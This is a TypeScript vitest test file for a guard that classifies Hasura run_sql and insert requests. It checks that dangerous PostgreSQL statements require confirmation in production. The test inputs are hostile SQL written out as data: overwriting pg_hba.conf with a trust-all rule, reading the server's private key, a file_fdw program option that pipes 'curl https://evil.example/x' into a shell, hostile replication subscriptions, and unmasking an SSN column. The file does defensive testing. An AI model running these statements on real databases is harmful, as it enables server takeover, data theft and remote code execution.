// Inputs that run code, overwrite server files, let another server write the database or overwrite rows, which an
// adversarial review found read as routine (allowed in production without a confirmation); each asserts the safe
// decision and failed before its fix. What each statement does was checked on a real PostgreSQL 15 (superuser, as
// Hasura's default source usually connects); the notes say what was seen.
import { describe, expect, it } from 'vitest';
import { analyzeChange } from '../../src/analysis/index.js';
import { effectKey, type Effect } from '../../src/vocabulary/effects.js';
import { loadPolicy } from '../../src/core/policy.js';

const policy = loadPolicy();
const production = policy.findEnvironment('production')!;

const keys = (effects: Effect[]) => [...new Set(effects.map(effectKey))].sort().join(' ');

/** A body as the console or the CLI sends it, judged as the enforcing proxy would (operation = its type). */
async function judgeBody(body: Record<string, unknown>) {
  const effects = await analyzeChange({ operation: String(body.type), table: '', request: body });
  return { effects, keys: keys(effects), level: policy.decide(effects, production, String(body.type)).level };
}

const runSql = (sql: string, extra: Record<string, unknown> = {}) => ({ type: 'run_sql', args: { source: 'default', sql, ...extra } });
const judgeSql = (sql: string, extra: Record<string, unknown> = {}) => judgeBody(runSql(sql, extra));

describe('COPY to and from a file on the database server', () => {
  // Seen: COPY (SELECT 'overwritten') TO '/tmp/rsql/victim.txt' replaced the file's content, also inside BEGIN READ ONLY.
  // Overwriting pg_hba.conf (trust for everyone at the next reload) or postgresql.auto.conf (archive_command, a shell
  // command) is a takeover; COPY … TO PROGRAM is already run:function, a server file is not.
  it('COPY … TO a server file overwrites that file: not routine', async () => {
    const result = await judgeSql("COPY (SELECT 'host all all 0.0.0.0/0 trust') TO '/var/lib/postgresql/data/pg_hba.conf'");
    expect(result.level).toBe('confirm');
  });

  it('COPY … TO a server file in a read_only run_sql: PostgreSQL lets it through a read-only transaction', async () => {
    const result = await judgeSql("COPY patients TO '/var/lib/postgresql/data/postgresql.auto.conf'", { read_only: true });
    expect(result.level).toBe('confirm');
  });

  // pg_read_file is run:function ("server files" in sql-functions.ts); COPY FROM a file reads the same files into a
  // table the GraphQL API can then serve (the server's private key, pg_hba.conf, …).
  it('COPY … FROM a server file reads the server\'s files into a table: not routine', async () => {
    const result = await judgeSql("COPY patients (name) FROM '/var/lib/postgresql/data/server.key'");
    expect(result.level).toBe('confirm');
  });
});

describe('foreign tables of file_fdw', () => {
  // Seen (file_fdw installed): the SELECT ran `id > /tmp/rsql/pwned.txt` as the postgres OS user. The same as COPY
  // FROM PROGRAM, which the guard calls run:function; here add:unknown, add:table and read:table, all routine.
  it('a foreign table whose `program` option runs a shell command on the server, then read', async () => {
    const result = await judgeSql(
      "CREATE SERVER files FOREIGN DATA WRAPPER file_fdw; CREATE FOREIGN TABLE shell (line text) SERVER files OPTIONS (program 'curl -s https://evil.example/x | sh'); SELECT * FROM shell",
    );
    expect(result.level).toBe('confirm');
  });

  it('a foreign table over a server file (`filename`), like pg_read_file', async () => {
    const result = await judgeSql("CREATE FOREIGN TABLE hba (line text) SERVER files OPTIONS (filename '/var/lib/postgresql/data/pg_hba.conf'); SELECT * FROM hba");
    expect(result.level).toBe('confirm');
  });
});

describe('logical replication', () => {
  // Seen: CREATE SUBSCRIPTION … WITH (create_slot = false, …) ran inside BEGIN … COMMIT (Hasura's run_sql
  // transaction); a TRUNCATE on the publisher then emptied the local `patients` (3 rows → 0). A subscription lets
  // another server insert, update, delete and truncate this database's tables from then on: worse than repointing a
  // source, which the guard holds. It comes out add:unknown [subscription], routine.
  it('CREATE SUBSCRIPTION lets another server write (and truncate) this database\'s tables', async () => {
    const result = await judgeSql(
      "CREATE SUBSCRIPTION dev_sync CONNECTION 'host=dev.internal dbname=app user=repl' PUBLICATION everything WITH (create_slot = false, slot_name = 'dev_sync')",
    );
    expect(result.level).toBe('confirm');
  });
});

describe('objects that run a function later, like CREATE OPERATOR (which the guard holds)', () => {
  // Seen: a GiST index on a range column of a type with subtype_diff = public.diff called diff 70,461 times for
  // 20,000 rows. docs/policy.md: "CREATE OPERATOR, AGGREGATE, CAST … WITH FUNCTION, base types … run:function for each
  // function they name"; a range type's subtype_diff and canonical are such functions, and are not read.
  it('CREATE TYPE … AS RANGE with subtype_diff naming an existing function', async () => {
    const result = await judgeSql('CREATE TYPE span AS RANGE (subtype = int4, subtype_diff = public.wipe)');
    expect(keys(result.effects)).toContain('run:function');
    expect(result.level).toBe('confirm');
  });

  // Seen: CREATE INDEX ON ot (x c) over 50 rows called the support function FUNCTION 1 public.cmp 50 times.
  it('CREATE OPERATOR CLASS with a support FUNCTION naming an existing function', async () => {
    const result = await judgeSql(
      'CREATE OPERATOR CLASS evil_ops FOR TYPE int4 USING btree AS OPERATOR 1 <, OPERATOR 2 <=, OPERATOR 3 =, OPERATOR 4 >=, OPERATOR 5 >, FUNCTION 1 public.wipe(int4, int4)',
    );
    expect(keys(result.effects)).toContain('run:function');
    expect(result.level).toBe('confirm');
  });
});

describe('plain EXPLAIN runs what the planner evaluates', () => {
  // Seen: EXPLAIN SELECT public.imm() (IMMUTABLE, constant arguments: folded by the planner) and EXPLAIN SELECT * FROM
  // patients WHERE id = public.stab() (STABLE: evaluated for the selectivity estimate) each ran the function, whose
  // nested volatile call wrote a row. The guard does not know an existing function's volatility; the same call
  // without EXPLAIN is run:function. sql-statements.ts says "Plain EXPLAIN plans the query and runs nothing".
  it('EXPLAIN SELECT of an existing function', async () => {
    const result = await judgeSql('EXPLAIN SELECT public.recalculate_balances()');
    expect(result.level).toBe('confirm');
  });

  it('EXPLAIN of a query whose WHERE calls an existing function', async () => {
    const result = await judgeSql('EXPLAIN SELECT * FROM patients WHERE id = public.recalculate_balances()');
    expect(result.level).toBe('confirm');
  });
});

describe('extensions that reach outside the database, by another road', () => {
  // jsonb_plpython3u.control says `requires = 'plpython3u'` (hstore_plperlu: 'hstore, plperlu'): CASCADE installs the
  // untrusted language that `CREATE EXTENSION plpython3u` alone is held for (grant:extension).
  it('CREATE EXTENSION jsonb_plpython3u CASCADE installs plpython3u', async () => {
    const result = await judgeSql('CREATE EXTENSION jsonb_plpython3u CASCADE');
    expect(result.level).toBe('confirm');
  });

  it('CREATE EXTENSION hstore_plperlu CASCADE installs plperlu', async () => {
    const result = await judgeSql('CREATE EXTENSION hstore_plperlu CASCADE');
    expect(result.level).toBe('confirm');
  });

  // docs/policy.md: "`postgres_fdw` and other foreign data wrappers" are grant:extension. ogr_fdw (files, URLs and
  // databases through GDAL) and sqlite_fdw are foreign data wrappers not in the list.
  it.each(['ogr_fdw', 'sqlite_fdw'])('CREATE EXTENSION %s, a foreign data wrapper', async (name) => {
    const result = await judgeSql(`CREATE EXTENSION ${name}`);
    expect(result.level).toBe('confirm');
  });
});

describe('security labels are access rules, not comments', () => {
  // SECURITY LABEL fails unless a label provider is loaded, and the providers use labels as rules: sepgsql
  // (mandatory access control), PostgreSQL Anonymizer (`anon`: which columns a masked role sees in clear),
  // pgsodium (Supabase: transparent column encryption). Removing an `anon` label unmasks the column.
  it('SECURITY LABEL FOR anon … IS NULL unmasks a column: not a comment', async () => {
    const result = await judgeSql('SECURITY LABEL FOR anon ON COLUMN patients.ssn IS NULL');
    expect(result.level).toBe('confirm');
  });
});

describe("Hasura's /v1/query insert with on_conflict", () => {
  // Hasura's own test server/tests-py/queries/v1/insert/onconflict/upsert_author.yaml: `on_conflict: {constraint_on:
  // [id], action: update}` answers `name: Author 1 updated`: an existing row overwritten. The SQL form (INSERT … ON
  // CONFLICT DO UPDATE) is rewrite:rows, confirmed; this body is add:rows only, allowed.
  it('insert with on_conflict.action "update" overwrites existing rows', async () => {
    const result = await judgeBody({
      type: 'insert',
      args: { table: 'patients', objects: [{ id: 1, name: 'overwritten' }], on_conflict: { constraint_on: ['id'], action: 'update' } },
    });
    expect(keys(result.effects)).toContain('rewrite:rows');
    expect(result.level).toBe('confirm');
  });

  it('the same inside a bulk, as the CLI sends it', async () => {
    const result = await judgeBody({
      type: 'bulk',
      args: [{ type: 'insert', args: { table: 'patients', objects: [{ id: 1 }], on_conflict: { constraint: 'patients_pkey', action: 'update' } } }],
    });
    expect(result.level).toBe('confirm');
  });
});

describe('what stays routine beside those fixes', () => {
  it.each([
    ['EXPLAIN of built-in calls only', 'EXPLAIN SELECT now(), lower(name) FROM patients'],
    ['COPY to the client (what pg_dump and psql \\copy send)', 'COPY patients TO STDOUT'],
    ['a range type with no function of its own', 'CREATE TYPE span AS RANGE (subtype = int4)'],
    ['a trusted extension', 'CREATE EXTENSION pgcrypto'],
  ])('%s', async (_name, sql) => {
    expect((await judgeSql(sql)).level).toBe('allow');
  });

  it.each([
    ['ALTER SUBSCRIPTION … CONNECTION', "ALTER SUBSCRIPTION dev_sync CONNECTION 'host=other dbname=app'", 'grant:unknown'],
    ['CREATE PUBLICATION … FOR ALL TABLES', 'CREATE PUBLICATION everything FOR ALL TABLES', 'grant:unknown'],
    ['ALTER OPERATOR FAMILY … ADD FUNCTION', 'ALTER OPERATOR FAMILY integer_ops USING btree ADD FUNCTION 1 (int4, int4) public.wipe(int4, int4)', 'run:function'],
    ['a foreign table given a program later', "ALTER FOREIGN TABLE shell OPTIONS (SET program 'id')", 'modify:table'],
  ])('%s: held', async (_name, sql, key) => {
    const result = await judgeSql(sql);
    expect(keys(result.effects)).toContain(key);
    expect(result.level).toBe('confirm');
  });
});
